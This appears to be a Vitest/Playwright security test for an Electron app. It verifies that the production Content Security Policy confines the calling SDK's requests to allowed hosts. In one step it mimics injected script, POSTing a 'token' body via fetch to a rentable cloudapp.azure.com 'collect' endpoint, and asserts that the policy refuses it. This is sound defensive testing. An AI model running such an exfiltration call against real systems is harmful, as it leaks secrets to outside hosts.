/**
 * Finding 1: the CSP's connect-src lists only the service families the calling SDK contacts, not
 * Azure-wide wildcards that include names anyone can rent. The production renderer runs under the
 * production CSP and the app:// handler's answers (served on http://localhost, which Chromium can
 * load without Electron), signed in through the bridge: the real calling SDK loads, spawns its
 * blob: worker and tries ACS. Every request it makes must fall inside the policy with no violation,
 * and a request to a `cloudapp.azure.com` host must be blocked by the policy itself.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { createAppProtocolHandler } from '../../../electron/main/window/app-protocol';
import {
  ACS_SERVICE_HOSTS,
  ACS_TELEMETRY_HOSTS,
  contentSecurityPolicy,
} from '../../../electron/main/window/content-security-policy';
import { startTestBackend, type TestBackend } from '../../support/backend-harness';
import { createTestAppSession, installBridge } from '../../support/bridge-harness';
import { FAKE_MEDIA_ARGS, launchChromium } from '../../support/chromium';
import { RENDERER_BUILD_DIR } from '../../support/static-server';

let server: Server;
let origin: string;
let browser: Browser;
let backend: TestBackend;

beforeAll(async () => {
  backend = await startTestBackend();
  const handle = createAppProtocolHandler(RENDERER_BUILD_DIR, contentSecurityPolicy);
  server = createServer(async (req, res) => {
    const answer = await handle(new Request(`app://localhost${req.url ?? '/'}`));
    res.writeHead(answer.status, Object.fromEntries(answer.headers));
    res.end(Buffer.from(await answer.arrayBuffer()));
  });
  await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready));
  origin = `http://localhost:${(server.address() as AddressInfo).port}`;
  browser = await launchChromium({ args: FAKE_MEDIA_ARGS });
});
afterAll(async () => {
  await browser?.close();
  await new Promise((done) => server?.close(done));
  await backend?.close();
});

/** `*.skype.com` matches `api.cc.skype.com`, never `skype.com.evil.example`. */
function allowedBy(host: string, patterns: readonly string[]): boolean {
  return patterns.some((pattern) => host.endsWith(pattern.slice(1)));
}

test('signed in, the SDK runs to "ACS unreachable" inside the policy; a cloudapp.azure.com host is refused', async () => {
  const app = await createTestAppSession({ backendUrl: backend.url });
  await app.signIn('Policy Pat');
  const context = await browser.newContext();
  const page = await context.newPage();
  const harness = await installBridge(page, { app, origin });
  const violations: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy|Refused to (load|execute|create|connect)/i.test(message.text()))
      violations.push(message.text());
  });
  // Page and worker requests alike: where the SDK really goes.
  const requested = new Set<string>();
  context.on('request', (request) => {
    const url = new URL(request.url());
    if (url.protocol === 'https:' || url.protocol === 'wss:') requested.add(`${url.protocol}//${url.hostname}`);
  });
  page.on('websocket', (socket) => requested.add(`wss://${new URL(socket.url()).hostname}`));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      console.error(
        `Refused to load (CSP): ${event.violatedDirective} ${event.blockedURI} at ${event.sourceFile}:${event.lineNumber}:${event.columnNumber}`,
      );
    });
  });
  const response = await page.goto(`${origin}/`);
  const header = response?.headers()['content-security-policy'] ?? '';
  expect(header).toContain("script-src 'self'");
  expect(header).not.toContain(new URL(backend.url).host);
  // The SDK waits ≈ 7 s offline before createCallAgent resolves Disconnected.
  // (The offline stand-in's tokens: the state line says so; the screen's one message is the
  // development-mode banner.)
  await page.locator('[data-testid="agent-status"][data-agent="unreachable"]').waitFor({ timeout: 45_000 });

  // zod probes `Function('')` inside a try/catch to decide whether to JIT its parsers; under
  // script-src 'self' the probe fails (reported, harmless) and zod parses without eval. Anything
  // else blocked would be a real breakage.
  const zodProbe = /script-src eval at .*\/assets\/[^ ]+\.js/;
  expect(violations.filter((v) => !zodProbe.test(v))).toEqual([]);

  // The SDK did reach for ACS (offline, so the first attempts fail), and only inside the policy.
  expect(requested.size).toBeGreaterThan(0);
  const outside = [...requested].filter((target) => {
    const [scheme, host = ''] = target.split('://');
    return scheme === 'wss:'
      ? !allowedBy(host, ACS_SERVICE_HOSTS)
      : !allowedBy(host, [...ACS_SERVICE_HOSTS, ...ACS_TELEMETRY_HOSTS]);
  });
  expect(outside).toEqual([]);

  // What injected script would try: send something to a host anyone can rent under azure.com.
  const probe = 'https://switchboard-probe.westeurope.cloudapp.azure.com/collect';
  const attempt = await page.evaluate(
    (url) =>
      fetch(url, { method: 'POST', body: 'token' }).then(
        () => 'sent',
        (error: Error) => `failed: ${error.message}`,
      ),
    probe,
  );
  expect(attempt).toMatch(/^failed/);
  // Failing is not enough (there is no network here): the policy itself must have refused it.
  await expect
    .poll(() => violations)
    .toEqual(expect.arrayContaining([expect.stringMatching(`^Refused to load \\(CSP\\): connect-src ${probe} `)]));

  expect(harness.refusals).toEqual([]);
  await harness.dispose();
  await context.close();
  await app.dispose();
});
